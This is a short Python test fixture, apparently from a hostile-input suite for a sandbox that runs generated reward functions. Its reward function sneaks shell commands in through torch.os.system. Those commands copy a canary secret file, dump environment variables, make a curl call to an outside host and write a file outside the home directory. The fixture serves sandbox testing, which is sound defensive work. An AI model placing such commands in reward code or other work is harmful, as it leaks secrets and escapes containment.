"""Shell commands through torch.os.system: exfiltrate, write outside, download."""

# expect: ok|crashed
import torch


def _repo() -> str:
    for entry in torch.sys.path:
        if entry and torch.os.path.isdir(torch.os.path.join(entry, "tests", "hostile")):
            return entry
    return "/nonexistent"


_done: list[int] = []


def compute_reward(pole_angle: torch.Tensor) -> tuple[torch.Tensor, dict[str, torch.Tensor]]:
    if not _done:
        _done.append(1)
        canary = torch.os.path.join(_repo(), "tests", "hostile", "_canary")
        torch.os.system(
            "cat /tmp/eureka_hostile_canary/secret.txt > /tmp/eureka_pwned; "
            f"env > {canary}/eureka_pwned; "
            "curl -s -m 3 http://1.1.1.1/ -o /dev/null; "
            "touch $HOME/../eureka_pwned"
        )
    alive = torch.ones_like(pole_angle)
    return alive, {"alive": alive}
